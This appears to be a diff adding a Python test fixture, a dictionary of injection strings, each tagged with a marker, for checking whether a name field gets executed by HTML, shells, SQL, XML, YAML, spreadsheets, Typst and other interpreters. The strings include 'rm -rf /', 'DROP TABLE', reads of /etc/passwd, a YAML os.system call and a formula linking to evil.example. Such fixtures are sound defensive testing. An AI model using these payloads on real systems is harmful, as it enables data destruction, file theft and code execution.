@@ -1,0 +1,31 @@
+"""What somebody may write into a name to be obeyed rather than read: for each thing that could obey, with a mark."""
+
+MARK = "zqj"  # in each, so that it is found wherever it comes out
+CORPUS = {
+    "HTML": f"<script>alert('{MARK}')</script>",
+    "HTML attribute": f'" onmouseover="{MARK}" x="',
+    "HTML comment": f"--><img src=x onerror={MARK}>",
+    "SVG": f"<svg/onload={MARK}>",
+    "template": f"{{{{ 7*7 }}}}{{% if {MARK} %}}",
+    "blank of ours": f"{{link}} {{help_line}} {MARK}",
+    "format": f"%s %n {{0.__class__}} {MARK}",
+    "shell": f"$(touch {MARK}) `id` ${{7*7}}; rm -rf /",
+    "SQL": f"'; DROP TABLE people; -- {MARK}",
+    "LIKE": f"%_{MARK}%",
+    "LDAP": f"*)(uid={MARK}",
+    "lines": f"{MARK}\r\nBcc: eve@example.org\r\n\r\nx",
+    "log line": f'{MARK}\n{{"event":"link_opened"}}\x1b[2J',
+    "XML": f"]]><Message>{MARK}</Message><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
+    "YAML": f"!!python/object/apply:os.system ['{MARK}'] &a *a",
+    "path": f"../../../../etc/passwd%00{MARK}",
+    "formula": f'=HYPERLINK("http://evil.example/{MARK}","x")',
+    "formula sign": f"@SUM(1+1)*cmd|'{MARK}'!A0",
+    "right to left": f"\u202e{MARK}\u2066\u202d",
+    "link": f"https://evil.example/r/{MARK}",
+    "Typst": f'#read("/etc/passwd") #eval("1+1") $x$ *{MARK}* = _x_ @ref <tag>',
+    "Typst escape": f'\\u{{23}} "#sys.inputs.data" {MARK} // /* `raw`',
+    "NUL": f"{MARK}\x00\x07x",
+    "HL7": f"{MARK}|^~\\&|\\.br\\\rPID|1",
+    "JSON": f'{MARK}","pin":"1111","x":"\\u0000',
+    "Markdown": f"[{MARK}](javascript:alert(1))",
+}
